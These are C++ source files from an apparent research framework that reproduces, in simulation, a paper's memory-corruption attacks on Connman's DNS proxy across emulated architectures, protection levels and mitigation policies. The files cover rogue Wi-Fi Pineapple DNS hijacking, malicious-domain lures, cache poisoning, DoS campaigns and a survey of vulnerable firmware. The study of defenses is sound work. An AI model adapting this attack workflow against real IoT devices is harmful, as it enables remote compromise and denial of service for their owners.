