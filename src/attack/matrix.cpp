#include "src/attack/matrix.hpp"

namespace connlab::attack {

namespace {

const loader::ProtectionConfig kLevels[] = {
    loader::ProtectionConfig::None(),
    loader::ProtectionConfig::WxOnly(),
    loader::ProtectionConfig::WxAslr(),
};

}  // namespace

util::Result<std::vector<AttackResult>> RunSixAttackMatrix(
    std::uint64_t target_seed) {
  std::vector<AttackResult> results;
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    for (const loader::ProtectionConfig& prot : kLevels) {
      ScenarioConfig config;
      config.arch = arch;
      config.prot = prot;
      config.target_seed = target_seed;
      CONNLAB_ASSIGN_OR_RETURN(AttackResult result,
                               RunControlledScenario(config));
      results.push_back(std::move(result));
    }
  }
  return results;
}

util::Result<std::vector<AttackResult>> RunCrossTechniqueMatrix(
    isa::Arch arch, std::uint64_t target_seed) {
  std::vector<AttackResult> results;
  const exploit::Technique techniques[] = {
      exploit::Technique::kCodeInjection,
      arch == isa::Arch::kVX86 ? exploit::Technique::kRet2Libc
                               : exploit::Technique::kArmGadgetExeclp,
      exploit::Technique::kRopMemcpyChain,
  };
  for (exploit::Technique technique : techniques) {
    for (const loader::ProtectionConfig& prot : kLevels) {
      ScenarioConfig config;
      config.arch = arch;
      config.prot = prot;
      config.technique = technique;
      config.target_seed = target_seed;
      CONNLAB_ASSIGN_OR_RETURN(AttackResult result,
                               RunControlledScenario(config));
      results.push_back(std::move(result));
    }
  }
  return results;
}

util::Result<std::vector<AttackResult>> RunDefenseMatrix(
    std::uint64_t target_seed) {
  std::vector<AttackResult> results;
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    // Patched 1.35 at the weakest level: even there, nothing lands.
    {
      ScenarioConfig config;
      config.arch = arch;
      config.prot = loader::ProtectionConfig::None();
      config.version = connman::Version::k135;
      config.target_seed = target_seed;
      CONNLAB_ASSIGN_OR_RETURN(AttackResult result,
                               RunControlledScenario(config));
      results.push_back(std::move(result));
    }
    // Stack canary on top of W^X+ASLR: the defense the paper compiled out.
    {
      ScenarioConfig config;
      config.arch = arch;
      config.prot = loader::ProtectionConfig::All();
      config.target_seed = target_seed;
      CONNLAB_ASSIGN_OR_RETURN(AttackResult result,
                               RunControlledScenario(config));
      results.push_back(std::move(result));
    }
  }
  return results;
}

util::Result<std::vector<AttackResult>> RunDefenseGrid(
    std::uint64_t target_seed) {
  const std::vector<defense::DefensePolicy> policies =
      defense::StandardPolicies();
  std::vector<AttackResult> results;
  results.reserve(6 * policies.size());
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    for (const loader::ProtectionConfig& prot : kLevels) {
      for (const defense::DefensePolicy& policy : policies) {
        ScenarioConfig config;
        config.arch = arch;
        config.prot = prot;
        config.target_seed = target_seed;
        config.defense = policy;
        CONNLAB_ASSIGN_OR_RETURN(AttackResult result,
                                 RunControlledScenario(config));
        results.push_back(std::move(result));
      }
    }
  }
  return results;
}

}  // namespace connlab::attack
