#include "src/attack/matrix.hpp"

#include "src/obs/obs.hpp"

namespace connlab::attack {

namespace {

/// Grid-cell bookkeeping shared by the matrix drivers: every completed cell
/// counts once; "blocked" means the generator produced a payload but the
/// victim survived with no shell and no crash (the mitigation ate it).
void CountGridCell(const AttackResult& result) {
  OBS_COUNT("attack.grid_cells");
  if (result.shell) {
    OBS_COUNT("attack.grid_shells");
  } else if (result.exploit_available && !result.crash) {
    OBS_COUNT("attack.grid_blocked");
  }
}

}  // namespace

namespace {

const loader::ProtectionConfig kLevels[] = {
    loader::ProtectionConfig::None(),
    loader::ProtectionConfig::WxOnly(),
    loader::ProtectionConfig::WxAslr(),
};

}  // namespace

util::Result<std::vector<AttackResult>> RunSixAttackMatrix(
    std::uint64_t target_seed) {
  std::vector<AttackResult> results;
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    for (const loader::ProtectionConfig& prot : kLevels) {
      ScenarioConfig config;
      config.arch = arch;
      config.prot = prot;
      config.target_seed = target_seed;
      CONNLAB_ASSIGN_OR_RETURN(AttackResult result,
                               RunControlledScenario(config));
      CountGridCell(result);
      results.push_back(std::move(result));
    }
  }
  return results;
}

util::Result<std::vector<AttackResult>> RunCrossTechniqueMatrix(
    isa::Arch arch, std::uint64_t target_seed) {
  std::vector<AttackResult> results;
  const exploit::Technique techniques[] = {
      exploit::Technique::kCodeInjection,
      arch == isa::Arch::kVX86 ? exploit::Technique::kRet2Libc
                               : exploit::Technique::kArmGadgetExeclp,
      exploit::Technique::kRopMemcpyChain,
  };
  for (exploit::Technique technique : techniques) {
    for (const loader::ProtectionConfig& prot : kLevels) {
      ScenarioConfig config;
      config.arch = arch;
      config.prot = prot;
      config.technique = technique;
      config.target_seed = target_seed;
      CONNLAB_ASSIGN_OR_RETURN(AttackResult result,
                               RunControlledScenario(config));
      results.push_back(std::move(result));
    }
  }
  return results;
}

util::Result<std::vector<AttackResult>> RunDefenseMatrix(
    std::uint64_t target_seed) {
  std::vector<AttackResult> results;
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    // Patched 1.35 at the weakest level: even there, nothing lands.
    {
      ScenarioConfig config;
      config.arch = arch;
      config.prot = loader::ProtectionConfig::None();
      config.version = connman::Version::k135;
      config.target_seed = target_seed;
      CONNLAB_ASSIGN_OR_RETURN(AttackResult result,
                               RunControlledScenario(config));
      results.push_back(std::move(result));
    }
    // Stack canary on top of W^X+ASLR: the defense the paper compiled out.
    {
      ScenarioConfig config;
      config.arch = arch;
      config.prot = loader::ProtectionConfig::All();
      config.target_seed = target_seed;
      CONNLAB_ASSIGN_OR_RETURN(AttackResult result,
                               RunControlledScenario(config));
      results.push_back(std::move(result));
    }
  }
  return results;
}

util::Result<std::vector<AttackResult>> RunDefenseGrid(
    std::uint64_t target_seed) {
  OBS_TRACE_SPAN(grid_span, "attack", "RunDefenseGrid");
  const std::vector<defense::DefensePolicy> policies =
      defense::StandardPolicies();
  std::vector<AttackResult> results;
  results.reserve(6 * policies.size());
  for (isa::Arch arch : {isa::Arch::kVX86, isa::Arch::kVARM}) {
    for (const loader::ProtectionConfig& prot : kLevels) {
      for (const defense::DefensePolicy& policy : policies) {
        ScenarioConfig config;
        config.arch = arch;
        config.prot = prot;
        config.target_seed = target_seed;
        config.defense = policy;
        OBS_TRACE_SPAN(cell_span, "attack", "GridCell");
        cell_span.Arg("arch", std::string(isa::ArchName(arch)));
        cell_span.Arg("defense", policy.Label());
        CONNLAB_ASSIGN_OR_RETURN(AttackResult result,
                                 RunControlledScenario(config));
        cell_span.Arg("outcome", result.OutcomeLabel());
        CountGridCell(result);
        results.push_back(std::move(result));
      }
    }
  }
  grid_span.Arg("cells", static_cast<std::uint64_t>(results.size()));
  return results;
}

}  // namespace connlab::attack
