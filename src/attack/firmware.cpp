#include "src/attack/firmware.hpp"

#include <cstdio>

namespace connlab::attack {

const std::vector<FirmwareProfile>& KnownFirmware() {
  static const std::vector<FirmwareProfile> kFirmware = [] {
    std::vector<FirmwareProfile> out;
    // Hardening levels reflect what those embedded stacks typically
    // shipped with in the paper's time frame: media boxes with everything
    // off, build systems with DEP, phone-grade OSes with DEP+ASLR.
    out.push_back({"openelec-8", "connman 1.34", isa::Arch::kVARM,
                   connman::Version::k134, loader::ProtectionConfig::None(),
                   "media-centre image, no userspace hardening"});
    out.push_back({"yocto-2.2", "connman 1.31", isa::Arch::kVARM,
                   connman::Version::k134, loader::ProtectionConfig::WxOnly(),
                   "DEP via default toolchain flags"});
    out.push_back({"tizen-3.0", "connman 1.33", isa::Arch::kVARM,
                   connman::Version::k134, loader::ProtectionConfig::WxAslr(),
                   "phone-grade hardening: DEP + ASLR"});
    out.push_back({"mainline", "connman 1.35", isa::Arch::kVARM,
                   connman::Version::k135, loader::ProtectionConfig::WxAslr(),
                   "patched (August 2017 fix)"});
    return out;
  }();
  return kFirmware;
}

util::Result<std::vector<FirmwareSurveyRow>> RunFirmwareSurvey(
    std::uint64_t target_seed) {
  std::vector<FirmwareSurveyRow> rows;
  for (const FirmwareProfile& firmware : KnownFirmware()) {
    ScenarioConfig config;
    config.arch = firmware.arch;
    config.prot = firmware.prot;
    config.version = firmware.version;
    config.target_seed = target_seed;
    CONNLAB_ASSIGN_OR_RETURN(AttackResult attack, RunControlledScenario(config));
    rows.push_back({firmware, std::move(attack)});
  }
  return rows;
}

std::string RenderFirmwareSurvey(const std::vector<FirmwareSurveyRow>& rows) {
  std::string out = "== firmware survey (the paper's §VII target list) ==\n";
  char line[256];
  std::snprintf(line, sizeof(line), "%-12s %-14s %-14s %-18s %-14s %s\n",
                "firmware", "ships", "protections", "technique", "outcome",
                "notes");
  out += line;
  out += std::string(100, '-') + "\n";
  for (const FirmwareSurveyRow& row : rows) {
    std::snprintf(line, sizeof(line), "%-12s %-14s %-14s %-18s %-14s %s\n",
                  row.firmware.name.c_str(), row.firmware.connman_label.c_str(),
                  row.firmware.prot.ToString().c_str(),
                  std::string(exploit::TechniqueName(row.attack.technique)).c_str(),
                  row.attack.OutcomeLabel().c_str(), row.firmware.notes.c_str());
    out += line;
  }
  return out;
}

}  // namespace connlab::attack
