// Batch exploit preparation: extract one target profile in the attacker's
// lab and pre-build the wire-ready volley for every requested technique.
//
// A "volley" is the complete malicious DNS response the rogue server would
// send — built once, fired many times. This is the batch API the
// population-scale campaigns need: a fleet simulator delivers the same
// profiled exploit to millions of victims, and the diversity lab fires the
// same volleys at thousands of re-randomised boots, so payload generation
// must happen exactly once per technique, not once per delivery.
#pragma once

#include <cstdint>
#include <vector>

#include "src/exploit/generator.hpp"
#include "src/util/bytes.hpp"
#include "src/util/status.hpp"

namespace connlab::attack {

struct Volley {
  exploit::Technique technique = exploit::Technique::kDosCrash;
  util::Bytes response_wire;       // the full malicious response
  std::size_t payload_bytes = 0;   // expanded buffer-image size
  std::size_t labels = 0;          // DNS labels in the crafted name
};

struct VolleyBattery {
  exploit::TargetProfile profile;  // what the lab extraction recovered
  util::Bytes query_wire;          // the query every volley answers
  std::vector<Volley> volleys;     // one per requested technique, in order
  int probes = 0;                  // responses the extraction loop used

  [[nodiscard]] const Volley* Find(exploit::Technique technique) const;
};

/// Extracts a profile from a lab boot of (`arch`, `lab_prot`, `lab_seed`)
/// and builds one volley per technique. The lab instance is what the
/// attacker actually studies: pass a diversified / hardened config to model
/// an attacker profiling a captured production device, or the stock config
/// for the paper's controlled-environment chapter. Techniques whose payload
/// cannot be built for this profile are skipped (volleys keeps input order
/// of the ones that could); fails only when extraction itself fails or no
/// technique survives.
util::Result<VolleyBattery> BuildVolleyBattery(
    isa::Arch arch, const loader::ProtectionConfig& lab_prot,
    std::uint64_t lab_seed, const std::vector<exploit::Technique>& techniques);

}  // namespace connlab::attack
