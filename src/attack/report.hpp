// ASCII report tables for the experiment binaries: the same rows the paper
// reports, regenerated from live runs.
#pragma once

#include <string>
#include <vector>

#include "src/attack/outcome.hpp"
#include "src/attack/scenario.hpp"

namespace connlab::attack {

/// Renders attack rows as a fixed-width table:
///   arch | protections | version | technique | defense | outcome | why |
///   payload | probes
std::string RenderMatrixTable(const std::vector<AttackResult>& results,
                              const std::string& title);

/// Pivots defense-grid rows (RunDefenseGrid order) into the summary table
/// the paper's §IV discussion implies: one row per attack, one column per
/// mitigation policy, each cell the outcome under that policy.
std::string RenderDefenseGrid(const std::vector<AttackResult>& results,
                              const std::string& title);

/// One-paragraph rendering of a remote (Pineapple) run.
std::string RenderRemoteResult(const RemoteResult& remote);

/// Machine-readable renderings for downstream analysis.
std::string RenderCsv(const std::vector<AttackResult>& results);
std::string RenderJson(const std::vector<AttackResult>& results);

}  // namespace connlab::attack
