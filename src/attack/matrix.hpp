// The experiment matrix (the paper's six exploits, plus the rows the paper
// implies): every (arch, protection) pair with its matching technique,
// cross-technique failure rows, patched-build rows and the canary ablation.
#pragma once

#include <vector>

#include "src/attack/outcome.hpp"
#include "src/attack/scenario.hpp"

namespace connlab::attack {

/// The paper's core table: 2 architectures x 3 protection levels, each
/// attacked with the matching technique against the vulnerable build.
util::Result<std::vector<AttackResult>> RunSixAttackMatrix(
    std::uint64_t target_seed = 4242);

/// Cross rows: each technique fired at every protection level (shows where
/// each one stops working — the reason the paper escalates).
util::Result<std::vector<AttackResult>> RunCrossTechniqueMatrix(
    isa::Arch arch, std::uint64_t target_seed = 4242);

/// Defense rows: patched 1.35 and canary builds against the best exploit.
util::Result<std::vector<AttackResult>> RunDefenseMatrix(
    std::uint64_t target_seed = 4242);

/// The full defense grid: every one of the six paper attacks fired at a
/// victim hardened with each standard mitigation policy — none, canary,
/// shadow-stack CFI, stochastic diversity, all three stacked, plus the
/// heap-integrity policy (attack-major). On top of the 36 dnsproxy rows,
/// the bug-class zoo contributes resolvd (pointer-loop DoS) and camstored
/// (heap-metadata unlink) on both architectures against every policy —
/// 60 rows total. The attacker's lab always profiles the *undefended*
/// build, so each row records honestly why the exploit missed: the stack
/// policies do nothing against the heap bug class and vice versa.
util::Result<std::vector<AttackResult>> RunDefenseGrid(
    std::uint64_t target_seed = 4242);

}  // namespace connlab::attack
