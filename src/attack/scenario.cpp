#include "src/attack/scenario.hpp"

#include "src/dns/craft.hpp"
#include "src/dns/record.hpp"
#include "src/exploit/profile.hpp"
#include "src/loader/boot.hpp"
#include "src/net/dns_client.hpp"
#include "src/net/pineapple.hpp"
#include "src/net/resolver.hpp"
#include "src/util/log.hpp"

namespace connlab::attack {

namespace {

/// Boots the attacker's lab copy (always the vulnerable build — that is
/// what the attacker studies) and extracts the target profile.
util::Result<exploit::TargetProfile> LabExtract(const ScenarioConfig& config,
                                                int* probes) {
  CONNLAB_ASSIGN_OR_RETURN(
      auto lab, loader::Boot(config.arch, config.prot, config.local_seed));
  connman::DnsProxy lab_proxy(*lab, connman::Version::k134);
  exploit::ProfileExtractor extractor(*lab, lab_proxy);
  CONNLAB_ASSIGN_OR_RETURN(exploit::TargetProfile profile, extractor.Extract());
  if (probes != nullptr) {
    // Extraction always runs the probe loop; re-deriving the count keeps
    // the extractor interface small.
    *probes = static_cast<int>(lab_proxy.stats().responses);
  }
  return profile;
}

AttackResult BaseResult(const ScenarioConfig& config) {
  AttackResult result;
  result.arch = config.arch;
  result.prot = config.prot;
  result.version = config.version;
  result.technique = config.technique.value_or(
      exploit::TechniqueFor(config.arch, config.prot));
  result.defense = config.defense.Label();
  return result;
}

/// What the victim actually boots with: base protections plus whatever the
/// scenario's defense policy retrofits.
loader::ProtectionConfig VictimProt(const ScenarioConfig& config) {
  loader::ProtectionConfig prot = config.prot;
  config.defense.Configure(prot);
  return prot;
}

void Classify(const connman::ProxyOutcome& outcome, AttackResult* result) {
  result->kind = outcome.kind;
  result->detail = outcome.detail;
  result->shell = outcome.kind == connman::ProxyOutcome::Kind::kShell;
  result->crash = outcome.kind == connman::ProxyOutcome::Kind::kCrash;
  result->guest_steps = outcome.stop.steps;
}

}  // namespace

util::Result<AttackResult> RunControlledScenario(const ScenarioConfig& config) {
  AttackResult result = BaseResult(config);

  auto profile = LabExtract(config, &result.probes);
  if (!profile.ok()) {
    // e.g. stack canary present: extraction itself is defeated.
    result.exploit_available = false;
    result.detail = profile.status().message();
    return result;
  }

  exploit::ExploitGenerator generator(profile.value());
  auto image = generator.BuildImage(result.technique);
  if (!image.ok()) {
    result.exploit_available = false;
    result.detail = image.status().message();
    return result;
  }
  result.payload_bytes = image.value().size();
  CONNLAB_ASSIGN_OR_RETURN(dns::LabelSeq labels,
                           dns::CutIntoLabels(image.value()));
  result.labels = labels.size();
  result.exploit_available = true;

  // The victim: a different boot (fresh ASLR draw, fresh canary), hardened
  // with whatever the scenario's defense policy retrofits.
  CONNLAB_ASSIGN_OR_RETURN(auto target,
                           config.defense.BootHardened(
                               config.arch, config.prot, config.target_seed));
  connman::DnsProxy proxy(*target, config.version);

  dns::Message query = dns::Message::Query(0x7E57, "target.device.lan");
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes qwire, dns::Encode(query));
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes fwd, proxy.AcceptClientQuery(qwire));
  dns::Message evil = dns::MaliciousAResponse(query, std::move(labels));
  CONNLAB_ASSIGN_OR_RETURN(util::Bytes rwire, dns::Encode(evil));
  result.response_bytes = rwire.size();

  Classify(proxy.HandleServerResponse(rwire), &result);
  result.failure =
      exploit::DiagnoseFailure(result.technique, VictimProt(config), result.kind);
  return result;
}

util::Result<RemoteResult> RunPineappleScenario(const ScenarioConfig& config) {
  RemoteResult remote;
  remote.attack = BaseResult(config);

  // --- The legitimate environment ----------------------------------------
  net::Network network;
  // The scenario reports the wire size of the final response, so capture
  // the (small, bounded) traffic of this one exchange.
  network.EnableCapture();
  net::Radio radio;
  net::LegitDnsServer legit_dns("192.168.1.53");
  legit_dns.AddRecord("updates.vendor.example", "93.184.216.34");
  legit_dns.AddRecord("time.vendor.example", "93.184.216.35");
  network.Attach(legit_dns.ip(), &legit_dns);
  net::AccessPoint home_ap(
      "HomeWiFi", /*signal_dbm=*/-60,
      net::DhcpServer("192.168.1", "192.168.1.1", legit_dns.ip()));
  radio.AddAp(&home_ap);

  // --- The victim IoT device ----------------------------------------------
  CONNLAB_ASSIGN_OR_RETURN(auto firmware,
                           config.defense.BootHardened(
                               config.arch, config.prot, config.target_seed));
  net::VictimDevice victim(*firmware, config.version, "HomeWiFi");
  CONNLAB_RETURN_IF_ERROR(victim.JoinWifi(radio, network));

  // Sanity: resolution through the legitimate chain works.
  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t txid,
                           victim.Lookup(network, "updates.vendor.example"));
  (void)txid;
  network.DeliverAll();
  remote.benign_resolution_before =
      !victim.outcomes().empty() &&
      victim.outcomes().back().kind == connman::ProxyOutcome::Kind::kParsedOk;

  // --- The attacker ---------------------------------------------------------
  auto profile = LabExtract(config, &remote.attack.probes);
  if (!profile.ok()) {
    remote.attack.exploit_available = false;
    remote.attack.detail = profile.status().message();
    return remote;
  }
  exploit::ExploitGenerator generator(profile.value());
  auto image = generator.BuildImage(remote.attack.technique);
  if (!image.ok()) {
    remote.attack.exploit_available = false;
    remote.attack.detail = image.status().message();
    return remote;
  }
  remote.attack.payload_bytes = image.value().size();
  remote.attack.exploit_available = true;

  net::Pineapple pineapple("HomeWiFi", /*signal_dbm=*/-30);
  pineapple.Arm(profile.value(), remote.attack.technique);
  pineapple.PowerOn(radio, network);

  // The victim roams to the stronger beacon; DHCP renumbers it onto the
  // rogue subnet with the attacker's DNS. No config change on the device.
  CONNLAB_RETURN_IF_ERROR(victim.JoinWifi(radio, network));
  remote.roamed_to_rogue = victim.lease().dns_server == pineapple.ip();

  // Its next ordinary lookup is the compromise.
  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t txid2,
                           victim.Lookup(network, "time.vendor.example"));
  (void)txid2;
  network.DeliverAll();
  remote.queries_intercepted = pineapple.dns().queries_seen();

  if (victim.outcomes().empty()) {
    remote.attack.detail = "no response processed; " +
                           pineapple.dns().last_error();
    return remote;
  }
  Classify(victim.outcomes().back(), &remote.attack);
  remote.attack.failure = exploit::DiagnoseFailure(
      remote.attack.technique, VictimProt(config), remote.attack.kind);
  remote.attack.response_bytes =
      network.log().empty() ? 0 : network.log().back().payload.size();
  return remote;
}

util::Result<LureResult> RunLureScenario(const ScenarioConfig& config) {
  LureResult result;
  result.attack = BaseResult(config);

  // The victim's own network: home AP + a forwarding resolver that serves
  // the local zone and forwards anything under evil.example to its
  // "authoritative" server — which the attacker operates.
  net::Network network;
  net::Radio radio;
  net::ForwardingResolver resolver("192.168.1.53");
  resolver.AddRecord("updates.vendor.example", "93.184.216.34");
  network.Attach(resolver.ip(), &resolver);
  net::AccessPoint home_ap(
      "HomeWiFi", -60, net::DhcpServer("192.168.1", "192.168.1.1", resolver.ip()));
  radio.AddAp(&home_ap);

  CONNLAB_ASSIGN_OR_RETURN(auto firmware,
                           config.defense.BootHardened(
                               config.arch, config.prot, config.target_seed));
  net::VictimDevice victim(*firmware, config.version, "HomeWiFi");
  CONNLAB_RETURN_IF_ERROR(victim.JoinWifi(radio, network));
  result.on_legitimate_network = victim.lease().dns_server == resolver.ip();

  // The attacker's infrastructure: the authoritative server for
  // evil.example, armed with the exploit.
  auto profile = LabExtract(config, &result.attack.probes);
  if (!profile.ok()) {
    result.attack.exploit_available = false;
    result.attack.detail = profile.status().message();
    return result;
  }
  exploit::ExploitGenerator generator(profile.value());
  auto image = generator.BuildImage(result.attack.technique);
  if (!image.ok()) {
    result.attack.exploit_available = false;
    result.attack.detail = image.status().message();
    return result;
  }
  result.attack.payload_bytes = image.value().size();
  result.attack.exploit_available = true;
  net::FakeDnsServer evil_ns("203.0.113.66", net::FakeDnsServer::Mode::kDos);
  evil_ns.Arm(profile.value(), result.attack.technique);
  network.Attach(evil_ns.ip(), &evil_ns);
  resolver.AddDelegation("evil.example", evil_ns.ip());

  // The lure: some app on the device is induced to resolve the attacker's
  // domain (a link, an ad, a tracker URL). One ordinary lookup suffices.
  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t txid,
                           victim.Lookup(network, "cdn.evil.example"));
  (void)txid;
  network.DeliverAll();
  result.forwarded = resolver.forwarded();

  if (victim.outcomes().empty()) {
    result.attack.detail = "no response processed; " + evil_ns.last_error();
    return result;
  }
  Classify(victim.outcomes().back(), &result.attack);
  result.attack.failure = exploit::DiagnoseFailure(
      result.attack.technique, VictimProt(config), result.attack.kind);
  return result;
}

util::Result<PoisonResult> RunCachePoisoningScenario(const ScenarioConfig& config) {
  PoisonResult result;

  net::Network network;
  net::Radio radio;
  net::LegitDnsServer legit_dns("192.168.1.53");
  legit_dns.AddRecord("c2.vendor.example", "93.184.216.34");
  network.Attach(legit_dns.ip(), &legit_dns);
  net::AccessPoint home_ap(
      "HomeWiFi", -60, net::DhcpServer("192.168.1", "192.168.1.1", legit_dns.ip()));
  radio.AddAp(&home_ap);

  CONNLAB_ASSIGN_OR_RETURN(
      auto firmware, loader::Boot(config.arch, config.prot, config.target_seed));
  net::VictimDevice victim(*firmware, config.version, "HomeWiFi");
  CONNLAB_RETURN_IF_ERROR(victim.JoinWifi(radio, network));

  // The Pineapple in benign-forgery mode: spec-valid responses, attacker
  // address. Nothing here trips even a fully patched parser.
  net::Pineapple pineapple("HomeWiFi", -30);
  pineapple.set_dns_mode(net::FakeDnsServer::Mode::kBenign);
  pineapple.PowerOn(radio, network);
  CONNLAB_RETURN_IF_ERROR(victim.JoinWifi(radio, network));
  result.roamed_to_rogue = victim.lease().dns_server == pineapple.ip();

  CONNLAB_ASSIGN_OR_RETURN(std::uint16_t txid,
                           victim.Lookup(network, "c2.vendor.example"));
  (void)txid;
  network.DeliverAll();
  result.answers_forged = pineapple.dns().payloads_sent();

  const auto hits =
      victim.proxy().cache().Lookup("c2.vendor.example", victim.proxy().now() + 1);
  for (const connman::CacheEntry& entry : hits) {
    auto ip = dns::FormatIPv4(entry.rdata);
    if (ip.ok()) {
      result.victim_resolves_to = ip.value();
      result.cache_poisoned = ip.value() != "93.184.216.34";
    }
  }
  return result;
}

}  // namespace connlab::attack
