// Scenario runners: the controlled environment (§III-A/B/C) and the
// man-in-the-middle Wi-Fi Pineapple environment (§III-D).
//
// Controlled: the attacker studies a local instance (same binary, chosen
// protections, gdb + ropper), then fires the generated exploit at a
// *different* boot of the target — so anything that depends on randomised
// state fails honestly.
//
// Remote: a full simulated LAN — legitimate AP + resolver, the victim IoT
// device running Connman, and a Pineapple that out-broadcasts the real AP
// and hands the victim a malicious DNS server via DHCP. The victim keeps
// its default "DHCP + automatic DNS" configuration throughout.
#pragma once

#include <cstdint>
#include <optional>

#include "src/attack/outcome.hpp"
#include "src/defense/mitigation.hpp"
#include "src/util/status.hpp"

namespace connlab::attack {

struct ScenarioConfig {
  isa::Arch arch = isa::Arch::kVX86;
  loader::ProtectionConfig prot;
  connman::Version version = connman::Version::k134;
  /// Technique override; unset = the paper's choice for (arch, prot).
  std::optional<exploit::Technique> technique;
  std::uint64_t local_seed = 100;   // the attacker's lab instance
  std::uint64_t target_seed = 4242; // the victim (different ASLR draw)
  /// Retrofitted mitigations applied to the *victim* boot only: the
  /// attacker's lab still profiles the stock `prot` firmware, so whatever
  /// the defense randomises or checks is honestly unknown to the exploit.
  defense::DefensePolicy defense;
};

/// Extracts a profile in the lab and attacks a fresh target boot.
util::Result<AttackResult> RunControlledScenario(const ScenarioConfig& config);

struct RemoteResult {
  bool benign_resolution_before = false;  // sanity: network worked pre-attack
  bool roamed_to_rogue = false;           // Pineapple won the association
  std::uint64_t queries_intercepted = 0;  // seen by the fake DNS server
  AttackResult attack;
};

/// The full Pineapple man-in-the-middle chain.
util::Result<RemoteResult> RunPineappleScenario(const ScenarioConfig& config);

struct LureResult {
  bool on_legitimate_network = true;   // no rogue AP anywhere in this one
  std::uint64_t forwarded = 0;         // queries the home resolver forwarded
  AttackResult attack;
};

/// The §III-D "malicious domain" delivery class: the victim stays on its
/// own network with its own resolver; the attacker controls the
/// authoritative DNS server for a domain the device is lured to resolve.
/// The exploit response rides the legitimate forwarding chain home.
util::Result<LureResult> RunLureScenario(const ScenarioConfig& config);

struct PoisonResult {
  bool roamed_to_rogue = false;
  bool cache_poisoned = false;       // attacker address cached for the name
  std::string victim_resolves_to;    // what the device now believes
  std::uint64_t answers_forged = 0;  // forged responses the proxy accepted
};

/// The §III-D side remark made concrete: instead of (or before) memory
/// corruption, the rogue DNS server answers every query with an
/// attacker-controlled address. The proxy caches it and the device's
/// traffic is silently redirected — the Mirai-style recruitment channel.
/// Works against *patched* Connman too: no memory corruption involved.
util::Result<PoisonResult> RunCachePoisoningScenario(const ScenarioConfig& config);

}  // namespace connlab::attack
