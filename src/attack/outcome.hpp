// Attack-level result records: what the benches and report tables consume.
#pragma once

#include <cstdint>
#include <string>

#include "src/connman/dnsproxy.hpp"
#include "src/exploit/generator.hpp"
#include "src/isa/isa.hpp"
#include "src/loader/layout.hpp"

namespace connlab::attack {

struct AttackResult {
  isa::Arch arch = isa::Arch::kVX86;
  loader::ProtectionConfig prot;
  connman::Version version = connman::Version::k134;
  exploit::Technique technique = exploit::Technique::kDosCrash;
  /// Which guest service the row attacked. The paper rows are all
  /// "dnsproxy"; the bug-class zoo adds "resolvd" and "camstored".
  std::string service = "dnsproxy";

  bool exploit_available = false;  // generator produced a payload
  bool shell = false;              // root shell spawned (the paper's goal)
  bool crash = false;              // DoS
  connman::ProxyOutcome::Kind kind = connman::ProxyOutcome::Kind::kOther;
  std::string detail;
  std::string defense = "none";    // victim-side mitigation policy label
  /// Why the exploit missed (kNone when it landed or never fired).
  exploit::FailureCause failure = exploit::FailureCause::kNone;

  int probes = 0;                   // responses used for profile extraction
  std::size_t payload_bytes = 0;    // expanded buffer-image size
  std::size_t labels = 0;           // DNS labels in the crafted name
  std::size_t response_bytes = 0;   // wire size of the malicious response
  std::uint64_t guest_steps = 0;    // instructions the hijacked CPU retired

  [[nodiscard]] std::string RowLabel() const;
  [[nodiscard]] std::string OutcomeLabel() const;
  /// The failure cause as a short column value ("-" when not a failure).
  [[nodiscard]] std::string FailureLabel() const;
};

}  // namespace connlab::attack
