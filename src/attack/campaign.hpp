// DoS campaign model: quantifies the paper's "denial of service" beyond a
// single crash. The device resolves names continuously; the MITM poisons
// every n-th response; each crash takes the daemon down until its
// supervisor restarts it, losing the lookups issued in the meantime.
// Availability = served / attempted.
#pragma once

#include <cstdint>

#include "src/connman/dnsproxy.hpp"
#include "src/isa/isa.hpp"
#include "src/loader/layout.hpp"
#include "src/util/status.hpp"

namespace connlab::attack {

struct CampaignConfig {
  isa::Arch arch = isa::Arch::kVARM;
  loader::ProtectionConfig prot;
  connman::Version version = connman::Version::k134;
  int total_lookups = 200;
  /// The attacker poisons every n-th response (0 = never).
  int attack_every_n = 10;
  /// Lookups lost while the supervisor restarts a crashed daemon.
  int restart_downtime_lookups = 3;
  std::uint64_t seed = 77;
};

struct CampaignResult {
  int lookups_attempted = 0;
  int lookups_served = 0;
  int lookups_lost_downtime = 0;
  int crashes = 0;
  int restarts = 0;
  int attacks_sent = 0;
  int attacks_rejected = 0;  // patched parser bounced the payload

  [[nodiscard]] double availability() const noexcept {
    return lookups_attempted == 0
               ? 1.0
               : static_cast<double>(lookups_served) / lookups_attempted;
  }
};

util::Result<CampaignResult> RunDosCampaign(const CampaignConfig& config);

}  // namespace connlab::attack
