// Firmware profiles for the OSes the paper names (§III): "the Yocto
// project ... compiles distributions with Connman 1.31; OpenELEC ... comes
// with Connman 1.34, the last vulnerable version; Tizen OS ... utilizes a
// vulnerable version of Connman up until version 4.0." §VII plans attacks
// against all three on ARMv7 — this module runs that survey in simulation.
#pragma once

#include <string>
#include <vector>

#include "src/attack/scenario.hpp"

namespace connlab::attack {

struct FirmwareProfile {
  std::string name;           // "yocto-2.2", "openelec-8", ...
  std::string connman_label;  // the Connman release it ships
  isa::Arch arch = isa::Arch::kVARM;
  connman::Version version = connman::Version::k134;
  loader::ProtectionConfig prot;
  std::string notes;
};

/// The survey targets: the three OSes the paper names (all shipping
/// vulnerable Connman builds, with the hardening level typical of each),
/// plus a current patched baseline.
const std::vector<FirmwareProfile>& KnownFirmware();

struct FirmwareSurveyRow {
  FirmwareProfile firmware;
  AttackResult attack;
};

/// Attacks every known firmware with the matching technique for its
/// hardening level — the §VII "shift to attacking IoT OSes" experiment.
util::Result<std::vector<FirmwareSurveyRow>> RunFirmwareSurvey(
    std::uint64_t target_seed = 4242);

/// Table rendering for the survey.
std::string RenderFirmwareSurvey(const std::vector<FirmwareSurveyRow>& rows);

}  // namespace connlab::attack
