#include "src/attack/battery.hpp"

#include "src/connman/dnsproxy.hpp"
#include "src/dns/craft.hpp"
